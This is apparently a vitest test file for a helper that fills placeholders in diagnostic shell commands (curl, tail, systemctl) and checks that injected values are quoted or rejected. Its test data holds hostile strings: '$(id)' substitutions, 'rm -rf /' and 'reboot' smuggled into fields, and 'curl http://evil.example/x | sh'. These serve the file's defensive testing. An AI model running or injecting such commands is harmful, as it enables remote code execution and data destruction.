import { describe, expect, it } from 'vitest'
import { fillCommand, fillText, isFilledFrom } from './fill-holes.ts'

const where = { url: 'https://shop.example.com/a?b=$(id)&c', upstream: '[::1]:3000', service: 'shop' }

describe('fillText and fillCommand', () => {
  it('fill in what is known and leave a telling placeholder for the rest', () => {
    expect(fillText('{proxyName} calls {upstream}; unit {service}, {socket}', where, { proxyName: 'nginx' })).toBe(
      'nginx calls [::1]:3000; unit shop, /run/app.sock',
    )
    expect(fillCommand('curl -sv http://{upstreamHost}:{upstreamPort}/', {})).toBe('curl -sv http://UPSTREAM:PORT/')
    expect(fillCommand('tail {proxyLog}', {})).toBe('tail PROXY_ERROR_LOG')
    expect(fillCommand('tail {proxyLog}', {}, { proxyLog: '/var/log/nginx/error.log' })).toBe('tail /var/log/nginx/error.log')
    expect(fillText('location / {', {})).toBe('location / {')
    expect(fillText('{constructor} {toString}', {})).toBe('{constructor} {toString}')
  })

  it('quote for the shell what it would not take literally', () => {
    expect(fillCommand('curl -sv {url}', where)).toBe("curl -sv 'https://shop.example.com/a?b=$(id)&c'")
    expect(fillCommand('curl {url}', { url: "http://a/it's" })).toBe("curl 'http://a/it'\\''s'")
  })

  it('let nothing in that does not parse, or that a shell would read', () => {
    expect(fillCommand('curl --unix-socket {socket} x', { upstream: "unix:/tmp/it's" })).toBe('curl --unix-socket /run/app.sock x')
    expect(fillCommand('dig {host}', { url: 'http://$(id)/' })).toBe('dig YOUR-SITE')
    expect(
      fillCommand('ss -ltnp | grep {upstreamPort}; systemctl status {service}', { upstream: '1;rm -rf /:80', service: 'a; reboot' }),
    ).toBe('ss -ltnp | grep PORT; systemctl status YOUR-APP')
  })
})

describe('isFilledFrom', () => {
  const command = "systemctl status {service} | awk '{print}' {url}"
  it.each([
    ["systemctl status shop.service | awk '{print}' https://a.example/", true],
    ["systemctl status YOUR-APP | awk '{print}' 'https://a.example/?a=b&c='\\''d'", true],
    ["systemctl status $(id) | awk '{print}' https://a.example/", false],
    ["systemctl status shop; id | awk '{print}' https://a.example/", false],
    ["systemctl status 'shop'; id ' | awk '{print}' https://a.example/", false],
    ['curl http://evil.example/x | sh', false],
  ])('of %j is %j', (line, isOurs) => {
    expect(isFilledFrom(command, line)).toBe(isOurs)
  })

  it('takes what fillCommand makes', () => {
    const filled = [{}, { service: 'shop', url: 'https://a.example/?a=b&c=d' }, { url: "https://a.example/it's" }]
    expect(filled.map((known) => isFilledFrom(command, fillCommand(command, known)))).toEqual([true, true, true])
  })
})
